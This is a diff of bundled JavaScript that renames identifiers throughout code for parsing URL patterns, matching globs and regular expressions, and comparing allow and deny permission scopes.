   #hasSpecialProtocol = false;
-  constructor(text2, isSpecial) {
-    this.#text = text2;
+  constructor(text3, isSpecial) {
+    this.#text = text3;
     this.#isSpecial = isSpecial;
-    this.#tokens = urlTokens(text2, false);
+    this.#tokens = urlTokens(text3, false);
   }
   parse() {
     while (this.#state !== "done") {
@@ -31625,7 +34600,7 @@ function isWrittenLabel(label) {
   return letters !== void 0 && URL.parse(`http://${letters}/`)?.hostname === label;
 }
 var PREFIX = "xn--";
-var [BASE, LEAST, MOST2, FIRST_BIAS, FIRST_CODE] = [36, 1, 26, 72, 128];
+var [BASE2, LEAST, MOST2, FIRST_BIAS, FIRST_CODE] = [36, 1, 26, 72, 128];
 function lettersOf(code2) {
   const hyphen = code2.lastIndexOf("-");
   const letters = Array.from(code2.slice(0, Math.max(hyphen, 0)), (letter2) => letter2.charCodeAt(0));
@@ -31633,14 +34608,14 @@ function lettersOf(code2) {
   for (let at2 = hyphen + 1; at2 < code2.length; ) {
     const before2 = place;
     let weight2 = 1;
-    for (let size = BASE; ; size += BASE) {
+    for (let size = BASE2; ; size += BASE2) {
       const digit = "abcdefghijklmnopqrstuvwxyz0123456789".indexOf(code2[at2] ?? " ");
       if (digit < 0) return void 0;
       at2 += 1;
       place += digit * weight2;
       const least = Math.min(Math.max(size - bias, LEAST), MOST2);
       if (digit < least) break;
-      weight2 *= BASE - least;
+      weight2 *= BASE2 - least;
     }
     const length = letters.length + 1;
     bias = adapted(place - before2, length, before2 === 0);
@@ -31656,77 +34631,77 @@ function adapted(moved, length, isFirst) {
   let delta = Math.floor(moved / (isFirst ? 700 : 2));
   delta += Math.floor(delta / length);
   let steps = 0;
-  for (; delta > 455; steps += BASE) delta = Math.floor(delta / (BASE - LEAST));
+  for (; delta > 455; steps += BASE2) delta = Math.floor(delta / (BASE2 - LEAST));
   return steps + Math.floor(36 * delta / (delta + 38));
 }
 
 // src/language/url/canonical.ts
-function canonical2(part, text2, dialect) {
-  if (text2 === "") return "";
+function canonical2(part, text3, dialect) {
+  if (text3 === "") return "";
   switch (part) {
     case "protocol":
-      return protocolOf(text2);
+      return protocolOf(text3);
     case "hostname":
-      return hostOf(text2, dialect);
+      return hostOf(text3, dialect);
     case "port":
-      return portOf(text2, dialect);
+      return portOf(text3, dialect);
     case "pathname":
-      return pathOf3(text2, dialect);
+      return pathOf3(text3, dialect);
     case "opaque":
-      return opaquePathOf(text2);
+      return opaquePathOf(text3);
     case "username":
     case "password":
-      return written3(part, text2);
+      return written3(part, text3);
     case "search":
-      return written3("search", `?${text2}`).slice(1);
+      return written3("search", `?${text3}`).slice(1);
     case "hash":
-      return written3("hash", `#${text2}`).slice(1);
+      return written3("hash", `#${text3}`).slice(1);
   }
 }
-function protocolOf(text2) {
+function protocolOf(text3) {
   try {
-    return new URL(`${text2}://dummy.test`).protocol.slice(0, -1);
+    return new URL(`${text3}://dummy.test`).protocol.slice(0, -1);
   } catch {
-    throw new RefusedUrlPattern(`no protocol: ${text2}`);
+    throw new RefusedUrlPattern(`no protocol: ${text3}`);
   }
 }
-function hostOf(text2, dialect) {
-  if (text2.includes("[") && text2.includes(":")) throw new UnreadUrlPattern("an address in a host");
-  if (text2.includes(":")) {
-    if (dialect === "0.6" || text2.startsWith(":")) throw new RefusedUrlPattern(`no host: ${text2}`);
-    return hostOf(text2.slice(0, text2.indexOf(":")), dialect);
+function hostOf(text3, dialect) {
+  if (text3.includes("[") && text3.includes(":")) throw new UnreadUrlPattern("an address in a host");
+  if (text3.includes(":")) {
+    if (dialect === "0.6" || text3.startsWith(":")) throw new RefusedUrlPattern(`no host: ${text3}`);
+    return hostOf(text3.slice(0, text3.indexOf(":")), dialect);
   }
-  if (dialect === "0.3" && /[/?#\\]/.test(text2)) throw new RefusedUrlPattern(`no host: ${text2}`);
-  const [one, other] = ["http://one.test", "http://other.test"].map((url) => {
+  if (dialect === "0.3" && /[/?#\\]/.test(text3)) throw new RefusedUrlPattern(`no host: ${text3}`);
+  const [one2, other] = ["http://one.test", "http://other.test"].map((url) => {
     const target = new URL(url);
-    target.hostname = text2;
+    target.hostname = text3;
     return target.hostname;
   });
-  if (one === void 0 || one !== other) throw new RefusedUrlPattern(`no host: ${text2}`);
-  if (!one.split(".").every(isWrittenLabel)) throw new UnreadUrlPattern(`it may be no host: ${text2}`);
-  return one;
+  if (one2 === void 0 || one2 !== other) throw new RefusedUrlPattern(`no host: ${text3}`);
+  if (!one2.split(".").every(isWrittenLabel)) throw new UnreadUrlPattern(`it may be no host: ${text3}`);
+  return one2;
 }
-function portOf(text2, dialect) {
-  const digits2 = dialect === "0.3" ? /^\+?(\d+)$/.exec(text2) : /^(\d+)/.exec(text2);
+function portOf(text3, dialect) {
+  const digits2 = dialect === "0.3" ? /^\+?(\d+)$/.exec(text3) : /^(\d+)/.exec(text3);
   const port = Number(digits2?.[1] ?? Number.NaN);
-  if (!(port <= LAST_PORT)) throw new RefusedUrlPattern(`no port: ${text2}`);
+  if (!(port <= LAST_PORT)) throw new RefusedUrlPattern(`no port: ${text3}`);
   return String(port);
 }
 var LAST_PORT = 65535;
-function pathOf3(text2, dialect) {
-  if (text2.startsWith("/")) return withCarets(text2, (path2) => written3("pathname", path2));
-  const path = withCarets(text2, (rest2) => written3("pathname", `/-${rest2}`));
+function pathOf3(text3, dialect) {
+  if (text3.startsWith("/")) return withCarets(text3, (path2) => written3("pathname", path2));
+  const path = withCarets(text3, (rest2) => written3("pathname", `/-${rest2}`));
   if (dialect === "0.6") return path.startsWith("/-") ? path.slice(2) : path;
-  if (path.length < 2) throw new RefusedUrlPattern(`no path: ${text2}`);
+  if (path.length < 2) throw new RefusedUrlPattern(`no path: ${text3}`);
   return path.slice(2);
 }
-function withCarets(text2, write) {
-  if (!text2.includes("^")) return write(text2);
-  if (/%5e/i.test(text2)) throw new UnreadUrlPattern("carets of two kinds");
-  return write(text2).replaceAll("%5E", "^");
+function withCarets(text3, write) {
+  if (!text3.includes("^")) return write(text3);
+  if (/%5e/i.test(text3)) throw new UnreadUrlPattern("carets of two kinds");
+  return write(text3).replaceAll("%5E", "^");
 }
-function opaquePathOf(text2) {
-  return text2.replace(/^\//, "%2F").replace(
+function opaquePathOf(text3) {
+  return text3.replace(/^\//, "%2F").replace(
     /[^ -~]+/g,
     (characters) => Array.from(
       new TextEncoder().encode(characters),
@@ -31734,15 +34709,15 @@ function opaquePathOf(text2) {
     ).join("")
   );
 }
-function written3(property, text2) {
+function written3(property, text3) {
   const url = new URL("http://dummy.test");
-  url[property] = text2;
+  url[property] = text3;
   return url[property];
 }
 
 // src/language/url/part-pattern.ts
-function urlPartPattern(text2, kind, dialect) {
-  const pieces = new PieceReader(text2, kind, dialect).read();
+function urlPartPattern(text3, kind, dialect) {
+  const pieces = new PieceReader(text3, kind, dialect).read();
   const whole2 = expressionOf2(pieces, kind);
   const isFixed2 = (piece) => piece?.kind === "fixed" && piece.modifier === "";
   let [prefix, suffix] = ["", ""];
@@ -31751,9 +34726,9 @@ function urlPartPattern(text2, kind, dialect) {
   if (isFixed2(middle.at(-1))) [suffix, middle] = [middle.at(-1)?.value ?? "", middle.slice(0, -1)];
   const [only] = middle;
   if (only === void 0 || middle.length > 1 || !isWildcard(only))
-    return { prefix, expression: expressionOf2(middle, kind), suffix, whole: whole2, text: text2 };
+    return { prefix, expression: expressionOf2(middle, kind), suffix, whole: whole2, text: text3 };
   const expression = only.kind === "any" ? "^(?s:.*)$" : `^(?s:${delimited(kind, ".")}+)$`;
-  return { prefix: prefix + only.prefix, expression, suffix: only.suffix + suffix, whole: whole2, text: text2 };
+  return { prefix: prefix + only.prefix, expression, suffix: only.suffix + suffix, whole: whole2, text: text3 };
 }
 function isWildcard({ kind, modifier }) {
   return (kind === "segment" || kind === "any") && modifier === "";
@@ -31781,8 +34756,8 @@ var ANYTHING = ".*";
 function segment(kind) {
   return `${delimited(kind, ".")}+?`;
 }
-function escaped2(text2) {
-  return text2.replace(/[.+*?^${}()[\]|\\]/g, "\\$&");
+function escaped2(text3) {
+  return text3.replace(/[.+*?^${}()[\]|\\]/g, "\\$&");
 }
 var PieceReader = class {
   #kind;
@@ -31794,11 +34769,11 @@ var PieceReader = class {
   #at = 0;
   /** Fixed text that no piece holds yet. */
   #fixed = "";
-  constructor(text2, kind, dialect) {
+  constructor(text3, kind, dialect) {
     this.#kind = kind;
     this.#dialect = dialect;
-    this.#tokens = urlTokens(text2, true);
-    this.#isAddress = kind === "hostname" && text2.length > 1 && /^(?:\{|\\)?\[/.test(text2);
+    this.#tokens = urlTokens(text3, true);
+    this.#isAddress = kind === "hostname" && text3.length > 1 && /^(?:\{|\\)?\[/.test(text3);
   }
   read() {
     while (this.#at < this.#tokens.length) {
@@ -31853,14 +34828,14 @@ var PieceReader = class {
       suffix: this.#canonical(suffix)
     });
   }
-  #addText(text2, modifier) {
+  #addText(text3, modifier) {
     if (modifier === "") {
-      this.#fixed += text2;
+      this.#fixed += text3;
       return;
     }
     this.#close();
-    if (text2 !== "")
-      this.#pieces.push({ kind: "fixed", value: this.#canonical(text2), modifier, prefix: "", suffix: "" });
+    if (text3 !== "")
+      this.#pieces.push({ kind: "fixed", value: this.#canonical(text3), modifier, prefix: "", suffix: "" });
   }
   #close() {
     if (this.#fixed === "") return;
@@ -31874,17 +34849,17 @@ var PieceReader = class {
     if (this.#names.has(name)) throw new RefusedUrlPattern(`the name ${name} stands there twice`);
     this.#names.add(name);
   }
-  #canonical(text2) {
-    if (!this.#isAddress) return canonical2(this.#kind, text2, this.#dialect);
-    if (!/^[0-9a-f[\]:]*$/i.test(text2)) throw new RefusedUrlPattern(`no address: ${text2}`);
-    return text2.toLowerCase();
+  #canonical(text3) {
+    if (!this.#isAddress) return canonical2(this.#kind, text3, this.#dialect);
+    if (!/^[0-9a-f[\]:]*$/i.test(text3)) throw new RefusedUrlPattern(`no address: ${text3}`);
+    return text3.toLowerCase();
   }
   #text() {
-    let text2 = "";
+    let text3 = "";
     for (; ; ) {
       const token2 = this.#take("char") ?? this.#take("escaped");
-      if (token2 === void 0) return text2;
-      text2 += token2.value;
+      if (token2 === void 0) return text3;
+      text3 += token2.value;
     }
   }
   #wildcard(name) {
@@ -31899,24 +34874,24 @@ var PieceReader = class {
 };
 
 // src/language/url/pattern.ts
-var readUrlPattern = remembered((text2, work) => {
-  if (/[\t\n\r]/.test(text2)) return "unread";
-  work.spend(text2.length);
-  const [before2, since] = [outcome(text2, "0.3", work), outcome(text2, "0.6", work)];
+var readUrlPattern = remembered((text3, work) => {
+  if (/[\t\n\r]/.test(text3)) return "unread";
+  work.spend(text3.length);
+  const [before2, since] = [outcome(text3, "0.3", work), outcome(text3, "0.6", work)];
   return JSON.stringify(before2) === JSON.stringify(since) ? since : "unread";
 });
-function outcome(text2, dialect, work) {
+function outcome(text3, dialect, work) {
   try {
-    return patternIn(text2, dialect, work);
+    return patternIn(text3, dialect, work);
   } catch (error) {
     if (error instanceof RefusedUrlPattern) return "refused";
     if (error instanceof UnreadUrlPattern) return "unread";
     throw error;
   }
 }
-function patternIn(text2, dialect, work) {
+function patternIn(text3, dialect, work) {
   const isSpecial = (protocol) => takesSpecial(urlPartPattern(protocol, "protocol", dialect), work);
-  const texts = completed(partsOfText(text2, isSpecial));
+  const texts = completed(partsOfText(text3, isSpecial));
   const isSegmented = isSpecial(texts.protocol) || texts.protocol === "" || texts.pathname.startsWith("/");
   const part = (name, kind = name) => checked(urlPartPattern(texts[name], kind, dialect), work);
   return {
@@ -32049,7 +35024,7 @@ var HAS_DOTS = sequence(
 );
 var SEARCH = some(IN_SEARCH);
 var OTHER_SEARCH = some(either(IN_SEARCH, oneOf("'")));
-var HASH3 = some(except(between2("!", "~"), oneOf('"<>`')));
+var HASH4 = some(except(between2("!", "~"), oneOf('"<>`')));
 
 // src/language/url/kinds.ts
 function urlKinds() {
@@ -32075,7 +35050,7 @@ function made() {
     hostname: language(choice(words(domain), ADDRESS)),
     pathname: but(PATH, HAS_DOTS),
     search: language(SEARCH),
-    hash: language(HASH3)
+    hash: language(HASH4)
   };
   const ofWeb = (scheme) => ({
     parts: {
@@ -32131,11 +35106,11 @@ function made() {
 }
 
 // src/language/url/reach.ts
-function comparableUrlPattern(text2, work) {
-  return readable(() => comparable(text2, work)) ?? "unread";
+function comparableUrlPattern(text3, work) {
+  return readable(() => comparable(text3, work)) ?? "unread";
 }
-var comparable = remembered((text2, work) => {
-  const pattern = readUrlPattern(text2, work);
+var comparable = remembered((text3, work) => {
+  const pattern = readUrlPattern(text3, work);
   if (typeof pattern === "string") return pattern;
   const languages3 = URL_PART_NAMES.map((part) => [part, partLanguage(pattern[part], work)]);
   const isNone = languages3.some(([, language]) => isEmpty(language));
@@ -32149,10 +35124,10 @@ var comparable = remembered((text2, work) => {
 function plainGlob(pattern) {
   const glob = Array.from(pattern);
   const tokens = [];
-  let text2 = "";
+  let text3 = "";
   const close = () => {
-    if (text2 !== "") tokens.push({ kind: "text", text: text2, folded: folded2(text2) });
-    text2 = "";
+    if (text3 !== "") tokens.push({ kind: "text", text: text3, folded: folded2(text3) });
+    text3 = "";
   };
   for (let at2 = 0; at2 < glob.length; ) {
     const sign = glob[at2] ?? "";
@@ -32161,14 +35136,14 @@ function plainGlob(pattern) {
     if ("*?[".includes(sign)) {
       close();
       tokens.push(tokenIn(glob.slice(at2, end), end === glob.length));
-    } else text2 += sign;
+    } else text3 += sign;
     at2 = end;
   }
   close();
   return tokens;
 }
-function folded2(text2) {
-  return text2.replace(/[A-Z]+/g, (letters) => letters.toLowerCase());
+function folded2(text3) {
+  return text3.replace(/[A-Z]+/g, (letters) => letters.toLowerCase());
 }
 function endOfToken(glob, at2) {
   if (glob[at2] === "[") return glob.indexOf("]", at2 + (glob[at2 + 1] === "!" ? 3 : 2)) + 1 || void 0;
@@ -32184,27 +35159,27 @@ function tokenIn([sign, ...rest2], isLast) {
 }
 
 // src/compare/ipc/plain-glob.ts
-function matchesGlob(pattern, text2, options) {
+function matchesGlob(pattern, text3, options) {
   const glob = plainGlob(pattern);
-  return glob && takesWhole(glob, text2, options, new Work(Number.POSITIVE_INFINITY));
+  return glob && takesWhole(glob, text3, options, new Work(Number.POSITIVE_INFINITY));
 }
-function takesWhole(glob, text2, options, work) {
-  const walk2 = new GlobWalk(text2, options, work);
+function takesWhole(glob, text3, options, work) {
+  const walk2 = new GlobWalk(text3, options, work);
   let places2 = [0];
   for (const token2 of glob) {
     places2 = walk2.after(token2, places2);
     if (places2.length === 0) return false;
   }
-  return places2.at(-1) === text2.length;
+  return places2.at(-1) === text3.length;
 }
 var GlobWalk = class {
   #text;
   #folded;
   #options;
   #work;
-  constructor(text2, options, work) {
-    this.#text = text2;
-    this.#folded = options.foldCase ? folded2(text2) : text2;
+  constructor(text3, options, work) {
+    this.#text = text3;
+    this.#folded = options.foldCase ? folded2(text3) : text3;
     this.#options = options;
     this.#work = work;
   }
@@ -32237,8 +35212,8 @@ var GlobWalk = class {
         ).filter((place) => place === this.#text.length);
     }
   }
-  #behind(text2, from) {
-    return from.filter((place) => this.#folded.startsWith(text2, place)).map((place) => place + text2.length);
+  #behind(text3, from) {
+    return from.filter((place) => this.#folded.startsWith(text3, place)).map((place) => place + text3.length);
   }
   #oneOn(from, takes2) {
     return from.filter((place) => this.#isWild(place) && takes2(this.#characterAt(place))).map((place) => place + this.#characterAt(place).length);
@@ -32281,7 +35256,7 @@ function isInClass(members2, character2, foldCase) {
     if (dash === "-" && to !== void 0) {
       found9 ||= inRange(from, to, character2, foldCase);
       i2 += 2;
-    } else found9 ||= isSame4(from, character2, foldCase);
+    } else found9 ||= isSame5(from, character2, foldCase);
   }
   return found9 !== negated;
 }
@@ -32291,7 +35266,7 @@ function inRange(from, to, character2, foldCase) {
   const isLetters = foldCase && /^[A-Za-z]{3}$/.test(from + to + character2);
   return isLetters && isBetween(from.toLowerCase(), to.toLowerCase(), character2.toLowerCase());
 }
-function isSame4(a3, b5, foldCase) {
+function isSame5(a3, b5, foldCase) {
   return a3 === b5 || foldCase && /^[A-Za-z]{2}$/.test(a3 + b5) && a3.toLowerCase() === b5.toLowerCase();
 }
 function codeOf5(character2) {
@@ -32299,17 +35274,17 @@ function codeOf5(character2) {
 }
 
 // src/compare/ipc/plain-expression.ts
-function placesAfter(expression, text2, from, work) {
-  return new Walk(text2, work).after(expression, from);
+function placesAfter(expression, text3, from, work) {
+  return new Walk(text3, work).after(expression, from);
 }
-function placesOf4(text2, isFrom) {
-  return Array.from({ length: text2.length + 1 }, (_3, place) => isFrom(place));
+function placesOf4(text3, isFrom) {
+  return Array.from({ length: text3.length + 1 }, (_3, place) => isFrom(place));
 }
 var Walk = class {
   #text;
   #work;
-  constructor(text2, work) {
-    this.#text = text2;
+  constructor(text3, work) {
+    this.#text = text3;
     this.#work = work;
   }
   after(expression, from) {
@@ -32344,8 +35319,8 @@ var Walk = class {
     let all = places2;
     for (let i2 = least; i2 < most && places2.includes(true); i2 += 1) {
       const before2 = all;
-      const reached2 = this.after(part, places2);
-      places2 = reached2.map((isThere, place) => isThere && before2[place] !== true);
+      const reached3 = this.after(part, places2);
+      places2 = reached3.map((isThere, place) => isThere && before2[place] !== true);
       all = either2(before2, places2);
     }
     return all;
@@ -32362,9 +35337,9 @@ function either2(...sets) {
 }
 
 // src/compare/ipc/plain-validator.ts
-function findsMatch(source, text2, work) {
+function findsMatch(source, text3, work) {
   const expression = plainExpression(source, work);
-  const codes = codesOf(text2);
+  const codes = codesOf(text3);
   return expression && boundedly(
     work,
     (own) => placesAfter(
@@ -32398,8 +35373,8 @@ function boundedly(work, match) {
     work.spend(Math.min(own.taken, MOST3));
   }
 }
-function codesOf(text2) {
-  return Array.from(text2, (character2) => character2.codePointAt(0) ?? 0);
+function codesOf(text3) {
+  return Array.from(text3, (character2) => character2.codePointAt(0) ?? 0);
 }
 
 // src/compare/ipc/plain-piece-walk.ts
@@ -32408,8 +35383,8 @@ var PieceWalk = class {
   #delimiter;
   #expressions;
   #work;
-  constructor(text2, delimiter, expressions2, work) {
-    this.#text = text2;
+  constructor(text3, delimiter, expressions2, work) {
+    this.#text = text3;
     this.#delimiter = delimiter;
     this.#expressions = expressions2;
     this.#work = work;
@@ -32438,8 +35413,8 @@ var PieceWalk = class {
   #once({ before: before2, inside, after: after2 }, from) {
     return this.#fixed(after2, this.#inside(inside, this.#fixed(before2, from)));
   }
-  #fixed(text2, from) {
-    return codesOf(text2).reduce((places2, code2) => this.#one(places2, (its) => its === code2), from);
+  #fixed(text3, from) {
+    return codesOf(text3).reduce((places2, code2) => this.#one(places2, (its) => its === code2), from);
   }
   #inside(inside, from) {
     if (inside === null) return from;
@@ -32468,18 +35443,18 @@ var PieceWalk = class {
 // src/compare/ipc/plain-url-pieces.ts
 function withoutExpressions(pattern) {
   const expressions2 = [];
-  let text2 = "";
+  let text3 = "";
   for (let at2 = 0; at2 < pattern.length; at2 += 1) {
-    if (pattern[at2] === "\\") text2 += pattern.slice(at2, ++at2 + 1);
-    else if (pattern[at2] !== "(") text2 += pattern[at2];
+    if (pattern[at2] === "\\") text3 += pattern.slice(at2, ++at2 + 1);
+    else if (pattern[at2] !== "(") text3 += pattern[at2];
     else {
       const end = endOfExpression2(pattern, at2);
       if (end === void 0) return { text: pattern, expressions: [] };
-      text2 += `(${expressions2.push(pattern.slice(at2 + 1, end)) - 1})`;
+      text3 += `(${expressions2.push(pattern.slice(at2 + 1, end)) - 1})`;
       at2 = end;
     }
   }
-  return { text: text2, expressions: expressions2 };
+  return { text: text3, expressions: expressions2 };
 }
 function endOfExpression2(pattern, open) {
   let depth = 0;
@@ -32494,7 +35469,7 @@ function endOfExpression2(pattern, open) {
 var NAME5 = /:[\p{ID_Start}$_][\p{ID_Continue}$\u200c\u200d]*/uy;
 var NUMBER3 = /\((\d+)\)/y;
 var MODIFIER = /[?*+]/y;
-function plainPieces(text2, part) {
+function plainPieces(text3, part) {
   const pieces = [];
   let fixed = "";
   let at2 = 0;
@@ -32502,14 +35477,14 @@ function plainPieces(text2, part) {
     if (fixed !== "") pieces.push({ before: fixed, inside: null, after: "", modifier: "" });
     fixed = "";
   };
-  while (at2 < text2.length) {
-    const isGroup = text2[at2] === "{";
+  while (at2 < text3.length) {
+    const isGroup = text3[at2] === "{";
     if (isGroup) at2 += 1;
     const before2 = isGroup ? literal3() : "";
-    const isSlash = !isGroup && part === "pathname" && text2[at2 - 1] === "/" && text2[at2 - 2] !== "\\";
+    const isSlash = !isGroup && part === "pathname" && text3[at2 - 1] === "/" && text3[at2 - 2] !== "\\";
     const inside = wildcard();
     const after2 = isGroup ? literal3() : "";
-    if (isGroup && text2[at2++] !== "}") return void 0;
+    if (isGroup && text3[at2++] !== "}") return void 0;
     if (!isGroup && inside === null) {
       const sign = character2();
       if (sign === void 0) return void 0;
@@ -32527,29 +35502,29 @@ function plainPieces(text2, part) {
     const number = taken3(NUMBER3);
     if (number !== void 0) return Number(number.slice(1, -1));
     if (name !== void 0) return "segment";
-    if (text2[at2] !== "*") return null;
+    if (text3[at2] !== "*") return null;
     at2 += 1;
     return "anything";
   }
   function literal3() {
     let found9 = "";
-    while (at2 < text2.length && !/[*{}(]/.test(text2[at2] ?? "") && !startsName()) found9 += character2() ?? "";
+    while (at2 < text3.length && !/[*{}(]/.test(text3[at2] ?? "") && !startsName()) found9 += character2() ?? "";
     return found9;
   }
   function startsName() {
     NAME5.lastIndex = at2;
-    return NAME5.test(text2);
+    return NAME5.test(text3);
   }
   function character2() {
-    if (text2[at2] === "\\") at2 += 1;
-    else if (/[{}(?+]/.test(text2[at2] ?? "")) return void 0;
-    const sign = text2[at2];
+    if (text3[at2] === "\\") at2 += 1;
+    else if (/[{}(?+]/.test(text3[at2] ?? "")) return void 0;
+    const sign = text3[at2];
     at2 += 1;
     return sign;
   }
   function taken3(expression) {
     expression.lastIndex = at2;
-    const found9 = expression.exec(text2)?.[0];
+    const found9 = expression.exec(text3)?.[0];
     if (found9 !== void 0) at2 += found9.length;
     return found9;
   }
@@ -32566,8 +35541,8 @@ var PARTS = [
   "search",
   "hash"
 ];
-function eachPart(text2) {
-  return Object.fromEntries(PARTS.map((part) => [part, text2(part)]));
+function eachPart(text3) {
+  return Object.fromEntries(PARTS.map((part) => [part, text3(part)]));
 }
 function matchesUrl(pattern, url, work) {
   const [parts, target] = [patterns2(pattern, work), targets(url, work)];
@@ -32584,24 +35559,24 @@ var targets = remembered((url, work) => {
   work.spend(url.length);
   if (!URL.canParse(url)) return void 0;
   const target = new URL(url);
-  return eachPart((part) => withCarets2(target[part].replace(SIGNS[part] ?? "", ""), url));
+  return eachPart((part) => withCarets2(target[part].replace(SIGNS3[part] ?? "", ""), url));
 });
-var SIGNS = { protocol: /:$/, search: /^\?/, hash: /^#/ };
+var SIGNS3 = { protocol: /:$/, search: /^\?/, hash: /^#/ };
 var MOST_SIGNS = 2e3;
 var SIGNS_FOR_A_STEP = 32;
 var patterns2 = remembered((pattern, work) => {
   work.spend(pattern.length);
-  const { text: text2, expressions: expressions2 } = withoutExpressions(pattern);
-  const signs = text2.split(/[*:({]/).length - 1;
+  const { text: text3, expressions: expressions2 } = withoutExpressions(pattern);
+  const signs = text3.split(/[*:({]/).length - 1;
   if (signs > MOST_SIGNS) return void 0;
   work.spend(Math.ceil(signs * signs / SIGNS_FOR_A_STEP));
-  const parts = partsOf12(text2);
-  const read7 = expressions2.map((each) => plainExpression(each, work));
-  const found9 = PARTS.map((name) => parts && partPattern(name, withCarets2(parts[name], pattern), read7));
+  const parts = partsOf14(text3);
+  const read9 = expressions2.map((each) => plainExpression(each, work));
+  const found9 = PARTS.map((name) => parts && partPattern(name, withCarets2(parts[name], pattern), read9));
   return found9.every((part) => part !== void 0) ? found9 : void 0;
 });
-function partPattern(name, text2, expressions2) {
-  const pieces = plainPieces(text2, name);
+function partPattern(name, text3, expressions2) {
+  const pieces = plainPieces(text3, name);
   if (pieces === void 0) return void 0;
   const isFixed2 = (piece) => piece?.inside === null && piece.modifier === "";
   const [first] = pieces;
@@ -32615,10 +35590,10 @@ function partPattern(name, text2, expressions2) {
     expressions: expressions2
   };
 }
-function partsOf12(text2) {
+function partsOf14(text3) {
   try {
-    const { protocol, username, password, hostname, port, pathname, search: search2, hash } = new URLPattern(text2);
-    if (pathname === "/" && /[/\\](?:\.|%2e)/i.test(text2)) return void 0;
+    const { protocol, username, password, hostname, port, pathname, search: search2, hash } = new URLPattern(text3);
+    if (pathname === "/" && /[/\\](?:\.|%2e)/i.test(text3)) return void 0;
     return {
       protocol,
       username,
@@ -32656,9 +35631,9 @@ function takes({ name, prefix, middle, suffix, expressions: expressions2 }, word
 
 // src/compare/ipc/plain-patterns.ts
 var ANY_TEXT2 = { literalSeparator: false, literalDot: false, foldCase: false };
-function isGlobOf(text2, pattern, options, work) {
+function isGlobOf(text3, pattern, options, work) {
   const glob = globs(pattern, work);
-  return glob && takesWhole(glob, text2, options, work);
+  return glob && takesWhole(glob, text3, options, work);
 }
 var globs = remembered((pattern, work) => {
   work.spend(pattern.length);
@@ -32707,8 +35682,8 @@ var Languages = class {
     return found9.sort((a3, b5) => a3 - b5).map((rank3) => this.examples[rank3]);
   }
   #ranksOf(language) {
-    const known6 = this.#ranks.get(language);
-    if (known6 !== void 0) return known6;
+    const known7 = this.#ranks.get(language);
+    if (known7 !== void 0) return known7;
     const found9 = Array.from({ length: this.all[language]?.alphabet.size ?? 0 }, () => []);
     for (const [rank3, example] of this.examples.entries())
       found9[this.#classes[language]?.[example.class] ?? 0]?.push(rank3);
@@ -32772,8 +35747,8 @@ var Together = class {
   /** @throws TooComplex where the walk needs too much memory */
   after(state, its) {
     const row = this.#rowOf(state);
-    const known6 = row[its] ?? NOWHERE;
-    if (known6 !== UNKNOWN4) return known6;
+    const known7 = row[its] ?? NOWHERE;
+    if (known7 !== UNKNOWN4) return known7;
     const before2 = this.#sets.get(state);
     const found9 = [];
     for (let i2 = 0; i2 < before2.length; i2 += 1) {
@@ -32790,9 +35765,9 @@ var Together = class {
     return after2;
   }
   /** The state after a whole text. */
-  at(text2) {
+  at(text3) {
     let state = this.start;
-    for (const character2 of text2) {
+    for (const character2 of text3) {
       this.#work.spend(1);
       state = this.after(state, classOf(this.#languages.alphabet, codeOf(character2)));
     }
@@ -32815,8 +35790,8 @@ var Together = class {
     });
   }
   #rowOf(state) {
-    const known6 = this.#rows[state];
-    if (known6 !== void 0) return known6;
+    const known7 = this.#rows[state];
+    if (known7 !== void 0) return known7;
     this.#hold(this.#languages.alphabet.size);
     const row = new Int32Array(this.#languages.alphabet.size).fill(UNKNOWN4);
     this.#rows[state] = row;
@@ -32830,7 +35805,7 @@ var Together = class {
 var UNKNOWN4 = -2;
 
 // src/language/way.ts
-function textOf6(way) {
+function textOf7(way) {
   const characters = [];
   for (let at2 = way; at2 !== void 0; at2 = at2.from) characters.push(at2.character);
   return characters.reverse().join("");
@@ -32870,7 +35845,7 @@ var Search = class {
     this.#note({ state: 0, others: this.#beside.start, length: 0, from: void 0, character: "" });
     for (let promise = 0; promise < this.#fronts.length; promise += 1) {
       for (const step of this.#fronts[promise] ?? []) {
-        if (this.#languages.isEnd(this.#language, step.state) && this.#isSought(step)) return textOf6(step);
+        if (this.#languages.isEnd(this.#language, step.state) && this.#isSought(step)) return textOf7(step);
         for (const { class: its, character: character2 } of this.#languages.waysFrom(this.#language, step.state)) {
           const state = this.#languages.after(this.#language, step.state, its);
           const others = this.#beside.after(step.others, its);
@@ -32913,8 +35888,8 @@ var Search = class {
     const width = sizeOf(this.#languages.all[other]);
     const name = (pair) => `${other}:${pair}`;
     const first = state * width + its;
-    const known6 = this.#covered.get(name(first));
-    if (known6 !== void 0) return known6;
+    const known7 = this.#covered.get(name(first));
+    if (known7 !== void 0) return known7;
     const pairs = /* @__PURE__ */ new Set([first]);
     for (const pair of pairs) {
       const [here, there] = [Math.floor(pair / width), pair % width];
@@ -33067,21 +36042,21 @@ function minus(set, left2) {
 // src/compare/ipc/scopes/unread.ts
 function withUnread(escapes, base, head, isUnread) {
   const changed = [
-    ...missingIn2(base.allow, head.allow.filter(isUnread)),
-    ...missingIn2(head.allow, base.allow.filter(isUnread)),
-    ...missingIn2(head.deny, base.deny.filter(isUnread))
+    ...missingIn3(base.allow, head.allow.filter(isUnread)),
+    ...missingIn3(head.allow, base.allow.filter(isUnread)),
+    ...missingIn3(head.deny, base.deny.filter(isUnread))
   ];
   const blinding = escapes.length === 0 ? [] : [...base.allow, ...head.deny].filter(isUnread);
-  const named9 = new Set([...changed, ...blinding].map(({ text: text2 }) => text2));
+  const named10 = new Set([...changed, ...blinding].map(({ text: text3 }) => text3));
   return {
     escapes: blinding.length === 0 ? escapes : [],
-    undecided: [...named9].map((entry) => `the entry ${entry} can't be read as a pattern`)
+    undecided: [...named10].map((entry) => `the entry ${entry} can't be read as a pattern`)
   };
 }
-function missingIn2(others, entries) {
+function missingIn3(others, entries) {
   if (entries.length === 0) return entries;
-  const known6 = new Set(others.map(({ text: text2 }) => text2));
-  return entries.filter((entry) => !known6.has(entry.text));
+  const known7 = new Set(others.map(({ text: text3 }) => text3));
+  return entries.filter((entry) => !known7.has(entry.text));
 }
 
 // src/compare/ipc/scopes/language-scope.ts
@@ -33089,10 +36064,10 @@ function compareScopes(base, head, reading, work) {
   const { escapes, undecided } = new ScopeComparison(base, head, reading, work).run();
   const all = [base.allow, base.deny, head.allow, head.deny].flat();
   const unread4 = new Set(all.filter(({ language }) => language === void 0).map(({ entry }) => entry));
-  const answer = withUnread(escapes, entriesOf5(base), entriesOf5(head), (entry) => unread4.has(entry));
+  const answer = withUnread(escapes, entriesOf8(base), entriesOf8(head), (entry) => unread4.has(entry));
